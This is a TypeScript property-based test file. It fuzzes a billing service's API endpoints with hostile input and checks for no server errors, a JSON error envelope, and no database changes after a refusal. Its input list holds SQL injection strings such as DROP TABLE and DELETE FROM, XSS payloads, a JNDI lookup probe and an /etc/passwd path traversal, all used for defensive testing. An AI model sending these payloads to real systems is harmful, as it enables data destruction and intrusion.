/**
 * Random and hostile input against every write endpoint and every list endpoint the sandbox
 * serves: never a 500, always the JSON envelope, and a refused request leaves every table of
 * the database exactly as it was (no entity, no outbox event, nothing else). On both engines:
 * text PostgreSQL cannot store (NUL, unpaired surrogates) is generated in values, keys and
 * queries, and is never accepted into a record.
 */
import { findUnstorableText } from '@drawdown/billing-core';
import { createApp } from '@drawdown/billing-service';
import { openDatabase, type SqlDatabase } from '@drawdown/billing-store';
import { type BillingHarness, ENGINES, startBillingHarness, storeConfigOf } from '@drawdown/testkit';
import { fc, test } from '@fast-check/vitest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_OPERATIONS } from '../../src/openapi/api-operations.js';
import { openApiPath } from '../../src/openapi/openapi-document.js';
import { type ApiClient, type ApiResponse, expectErrorEnvelope, harnessClients } from '../support/api-client.js';
import {
  createCustomer,
  createMeter,
  createPrice,
  createProduct,
  createUnit,
  meterBody,
  priceBody,
} from '../support/catalogue-fixtures.js';

interface Route {
  readonly method: string;
  readonly path: string;
}

/**
 * The hosted checkout's pages, stylesheet, script and form posts answer HTML, CSS, JavaScript or
 * redirects by design, to a browser, not the API's JSON envelope: their hostile input is covered
 * by `payments/checkout.test.ts`. The page script's form post for a Stripe PaymentIntent
 * (`POST /checkout/intent`) reads a form body of the transaction named in its query, refused
 * field by field in `payments/stripe-checkout.test.ts`.
 */
const BROWSER_ROUTES = new Set([
  ...API_OPERATIONS.filter((operation) => ['html', 'css', 'js', 'redirect'].includes(operation.shape)).map(
    (operation) => `${operation.method.toUpperCase()} ${openApiPath(operation.path)}`,
  ),
  'POST /checkout/intent',
]);

/**
 * Every API route of the sandbox app, read from the app itself, so new routes are covered at
 * once (the browser-facing checkout routes aside).
 */
const ROUTES: readonly Route[] = (() => {
  const app = createApp({} as Parameters<typeof createApp>[0], {
    environment: 'sandbox',
    publicBaseUrl: () => 'http://127.0.0.1',
  });
  const seen = new Map<string, Route>();
  for (const route of app.routes) {
    if (route.method === 'ALL' || BROWSER_ROUTES.has(`${route.method} ${openApiPath(route.path)}`)) continue;
    seen.set(`${route.method} ${route.path}`, { method: route.method, path: route.path });
  }
  return [...seen.values()];
})();

const WRITES = ROUTES.filter((route) => route.method !== 'GET');
const LISTS = ROUTES.filter((route) => route.method === 'GET' && !route.path.split('/').at(-1)?.startsWith(':'));
const ENTITY_ROUTES = ROUTES.filter((route) => route.path.split('/').at(-1)?.startsWith(':'));

const SQL_AND_MARKUP = [
  "' OR '1'='1",
  "'); DROP TABLE products; --",
  '1; DELETE FROM customers',
  "\\'; select pg_sleep(0); --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, on purpose
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\uFEFF',
  '\uD800',
  '\u202E',
  'NaN',
  '-0',
  '1e309',
  '0x10',
  ' ',
  '',
];

/** Text no engine can store (NUL, unpaired surrogates) somewhere inside otherwise ordinary text. */
const unstorableString = fc
  .tuple(
    fc.string({ maxLength: 12 }),
    fc.constantFrom('\u0000', '\uD800', '\uDBFF', '\uDC00', '\uDFFF'),
    fc.string({ maxLength: 12 }),
  )
  .map(([before, bad, after]) => `${before}${bad}${after}`);

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL_AND_MARKUP) },
  { weight: 3, arbitrary: unstorableString },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(5_000), 'é'.repeat(70_000)) },
);

const hostileKey = fc.oneof(
  unstorableString,
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '', 'id', 'account_id'),
  fc.string({ maxLength: 16 }),
);

const { value: hostileValue } = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.integer(),
    fc.double({ noDefaultInfinity: true, noNaN: true }),
    fc.constantFrom(true, false, null, 0, -1, 2 ** 53 + 1, 1e21),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
  ),
}));

/** `{"a": [[[ … ]]]}` nested `depth` levels deep inside a field of a plausible body. */
function deeplyNested(field: string, depth: number): string {
  return `{"${field}": ${'['.repeat(depth)}${']'.repeat(depth)}}`;
}

interface HostileRequest {
  readonly rawBody: string | undefined;
  readonly contentType: string | undefined;
}

const json = (value: unknown): HostileRequest => ({ rawBody: JSON.stringify(value), contentType: 'application/json' });

/** Hostile bodies for a write: plausible ones with one field spoiled, and outright junk. */
function hostileBody(template: Record<string, unknown>): fc.Arbitrary<HostileRequest> {
  const fields = Object.keys(template);
  const spoilt = fc
    .tuple(fc.constantFrom(...(fields.length > 0 ? fields : ['name'])), hostileValue)
    .map(([field, value]) => json({ ...template, [field]: value }));
  const missing = fc
    .constantFrom(...(fields.length > 0 ? fields : ['name']))
    .map((field) => json(Object.fromEntries(Object.entries(template).filter(([key]) => key !== field))));
  const extra = fc.tuple(hostileKey, hostileValue).map(([key, value]) => ({
    rawBody: `${JSON.stringify(template).slice(0, -1)}${fields.length > 0 ? ',' : ''}${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}}`,
    contentType: 'application/json',
  }));
  return fc.oneof(
    { weight: 4, arbitrary: spoilt },
    { weight: 1, arbitrary: missing },
    { weight: 2, arbitrary: extra },
    { weight: 2, arbitrary: fc.jsonValue().map(json) },
    { weight: 2, arbitrary: fc.dictionary(hostileKey, hostileValue, { maxKeys: 6 }).map(json) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('custom_data', 'name', 'allowances', 'events'), fc.integer({ min: 50, max: 100_000 }))
        .map(([field, depth]) => ({ rawBody: deeplyNested(field, depth), contentType: 'application/json' })),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        rawBody: fc.oneof(fc.string({ maxLength: 200 }), fc.constantFrom('{', '[', 'null', '{"a":1,}', '\u0000')),
        contentType: fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', undefined),
      }),
    },
  );
}

/** Whether the request is JSON holding unstorable text anywhere. */
function holdsUnstorableJson(request: HostileRequest): boolean {
  try {
    return findUnstorableText(JSON.parse(request.rawBody ?? '')) !== null;
  } catch {
    return false;
  }
}

const LIST_PARAMETERS = [
  'per_page',
  'after',
  'order_by',
  'status',
  'id',
  'email',
  'search',
  'product_id',
  'recurring',
  'type',
  'tax_category',
  'usage_balance_unit_id',
  'action',
  'event_type',
  'customer_id',
];

const hostileQuery = fc
  .dictionary(
    fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...LIST_PARAMETERS) }, { weight: 1, arbitrary: hostileKey }),
    fc.oneof(
      unstorableString,
      fc.constantFrom(...SQL_AND_MARKUP, '-1', '0', '201', '1.5', 'id[ASC]', 'id[desc]', 'true', 'active,archived'),
      fc.string({ maxLength: 60 }),
      fc.string({ unit: 'grapheme', maxLength: 20 }),
      fc.constantFrom('pro_00000000000000000000000000', 'ctm_zzzzzzzzzzzzzzzzzzzzzzzzzz,', ',,,', 'x'.repeat(1_500)),
    ),
    { maxKeys: 4 },
  )
  .map((params) => new URLSearchParams(Object.entries(params)).toString());

/** Percent-encodes an id; a lone surrogate becomes an invalid UTF-8 sequence, itself hostile. */
function pathSegment(id: string): string {
  try {
    return encodeURIComponent(id).slice(0, 2_000);
  } catch {
    return '%ED%A0%80';
  }
}

describe.each(ENGINES)('%s: hostile input', (engine) => {
  // Bounded runs: the file must stay quick on two shared cores.
  const runs = engine === 'sqlite' ? { writes: 300, lists: 150, paths: 80 } : { writes: 60, lists: 30, paths: 20 };
  let harness: BillingHarness;
  let api: ApiClient;
  let counter: SqlDatabase;
  let tables: string[];
  const ids: Record<string, string> = {};
  let templates: Record<string, Record<string, unknown>>;

  beforeAll(async () => {
    harness = await startBillingHarness({ engine });
    api = harnessClients(harness).sandbox;
    ids.products = await createProduct(api);
    ids.prices = String((await createPrice(api, ids.products)).id);
    ids.customers = await createCustomer(api);
    ids.addresses = (await api.post(`/customers/${ids.customers}/addresses`, { country_code: 'GB' })).id;
    ids['usage-balance-units'] = await createUnit(api);
    ids.meters = String((await createMeter(api, ids['usage-balance-units'])).id);
    ids['usage-balances'] = 'ubl_00000000000000000000000000';
    ids.subscriptions = 'sub_00000000000000000000000000';
    ids['notification-settings'] = 'ntfset_00000000000000000000000000';
    ids.notifications = 'ntf_00000000000000000000000000';
    const unit = ids['usage-balance-units'];
    templates = {
      'POST /products': { name: 'Hostile', tax_category: 'saas', custom_data: { a: 1 } },
      'PATCH /products/:id': { name: 'Renamed', description: 'x' },
      'POST /prices': priceBody(ids.products, { allowances: [{ usage_balance_unit_id: unit, amount: '1' }] }),
      'PATCH /prices/:id': { allowances: [{ usage_balance_unit_id: unit, amount: '2' }], description: 'x' },
      'POST /customers': { email: 'hostile@example.com', name: 'Hostile' },
      'PATCH /customers/:id': { name: 'Renamed', locale: 'en' },
      'POST /customers/:customer/addresses': { country_code: 'GB', city: 'London' },
      'PATCH /customers/:customer/addresses/:id': { city: 'Leeds' },
      'POST /usage-balance-units': { name: 'Credits', unit_name: 'credits' },
      'PATCH /usage-balance-units/:id': { name: 'Renamed' },
      'POST /meters': meterBody(unit),
      'PATCH /meters/:id': { rate: '2', name: 'Renamed' },
      'POST /usage-events': {
        events: [
          {
            event_key: 'k1',
            customer_id: ids.customers,
            action: 'api_call',
            quantity: '1',
            occurred_at: new Date().toISOString(),
          },
        ],
      },
    };
    counter = openDatabase(storeConfigOf(harness, { maxConnections: 2 }));
    const tableRows =
      engine === 'postgres'
        ? await counter.all<{ name: string }>(
            "select table_name as name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'",
          )
        : await counter.all<{ name: string }>(
            "select name from sqlite_master where type = 'table' and name not like 'sqlite_%'",
          );
    tables = tableRows.map((row) => row.name).filter((name) => name !== 'schema_migrations');
    // The first authenticated request may create per-account rows (the sandbox clock); make it now.
    await api.get('/products');
    // The reminder step keeps one row per account environment (ADR 1503), written by the server's own
    // worker whenever it first runs: run it now, so a request's refusal is what the counts compare.
    await harness.services.useCases.runDueWork('email_reminders');
  });
  afterAll(async () => {
    await counter?.close();
    await harness.close();
  });

  /** The number of rows in every table, as one comparable record. */
  async function snapshot(): Promise<Record<string, number>> {
    const counts: Record<string, number> = {};
    for (const table of tables) {
      const row = await counter.get<{ total: number | string }>(`select count(*) as total from ${table}`);
      counts[table] = Number(row?.total ?? 0);
    }
    return counts;
  }

  function concretePath(route: Route): string {
    const segments = route.path.split('/');
    return segments
      .map((segment, index) => {
        if (!segment.startsWith(':')) return segment;
        const collection = segment === ':customer' ? 'customers' : (segments[index - 1] ?? '');
        return ids[collection] ?? 'unknown_00000000000000000000000000';
      })
      .join('/');
  }

  function expectEnvelope(response: ApiResponse, what: string): void {
    expect(response.status, `${what} → ${response.text.slice(0, 500)}`).toBeLessThan(500);
    if (response.status >= 400) {
      expectErrorEnvelope(response);
    } else {
      expect(response.headers.get('content-type') ?? '').toMatch(/^application\/json/);
      expect(response.body.meta?.request_id, what).toBe(response.headers.get('request-id'));
      expect(response.body.data, what).toBeDefined();
    }
  }

  it('covers every route of the app', () => {
    expect(WRITES.length).toBeGreaterThanOrEqual(15);
    expect(LISTS.length).toBeGreaterThanOrEqual(8);
    // The browser routes are left out by name, and only they.
    expect(BROWSER_ROUTES.size).toBeGreaterThanOrEqual(5);
    expect(ROUTES.filter((route) => route.path === '/checkout' || route.path.startsWith('/checkout/'))).toEqual([]);
    expect(ROUTES.some((route) => route.path === '/checkout-settings')).toBe(true);
  });

  test.prop(
    [
      fc
        .constantFrom(...WRITES)
        .chain((route) =>
          fc.tuple(fc.constant(route), hostileBody(templates?.[`${route.method} ${route.path}`] ?? {})),
        ),
    ],
    { numRuns: runs.writes },
  )('writes: no 500, always the envelope, and a refusal changes no table', async ([route, request]) => {
    const before = await snapshot();
    const response = await api.request(route.method, concretePath(route), {
      ...(request.rawBody === undefined ? {} : { rawBody: request.rawBody }),
      headers: request.contentType === undefined ? {} : { 'Content-Type': request.contentType },
    });
    const what = `${route.method} ${route.path} ${request.rawBody?.slice(0, 300)}`;
    expectEnvelope(response, what);
    if (response.status >= 400) expect(await snapshot(), what).toEqual(before);
    // Usage events answer unstorable text per event (checked in unstorable-text.test.ts).
    if (holdsUnstorableJson(request) && route.path !== '/usage-events') {
      expect(response.status, what).toBeGreaterThanOrEqual(400);
    }
  });

  test.prop([fc.constantFrom(...LISTS), hostileQuery], { numRuns: runs.lists })(
    'lists: no 500, always the envelope, whatever the query',
    async (route, query) => {
      const before = await snapshot();
      const response = await api.get(`${concretePath(route)}?${query}`);
      const what = `GET ${route.path}?${query.slice(0, 300)}`;
      expectEnvelope(response, what);
      if (response.status === 200 && response.body.meta?.pagination !== undefined) {
        expect(Array.isArray(response.body.data), what).toBe(true);
      }
      expect(await snapshot(), what).toEqual(before);
    },
  );

  test.prop(
    [fc.constantFrom(...ENTITY_ROUTES), fc.oneof(hostileString, fc.constantFrom('..', '%2e%2e', '%00', '%ZZ'))],
    {
      numRuns: runs.paths,
    },
  )('entity paths: a hostile id is refused with the envelope and changes nothing', async (route, id) => {
    const before = await snapshot();
    const path = concretePath(route).replace(/\/[^/]+$/, `/${pathSegment(id)}`);
    const response = await api.request(route.method, path, route.method === 'GET' ? {} : { body: { name: 'x' } });
    expectEnvelope(response, `${route.method} ${path}`);
    if (response.status >= 400) expect(await snapshot()).toEqual(before);
  });

  it('refuses a body nested 100,000 levels deep without failing', async () => {
    for (const field of ['custom_data', 'name']) {
      const response = await api.request('POST', '/products', { rawBody: deeplyNested(field, 100_000) });
      expectEnvelope(response, field);
      expect(response.status).toBe(400);
    }
    const nested = `{"name":"x","tax_category":"saas","custom_data":{"a":${'['.repeat(5_000)}${']'.repeat(5_000)}}}`;
    const response = await api.request('POST', '/products', { rawBody: nested });
    expectEnvelope(response, 'custom_data nested 5,000 deep');
    expect(response.status).toBe(400);
  });
});
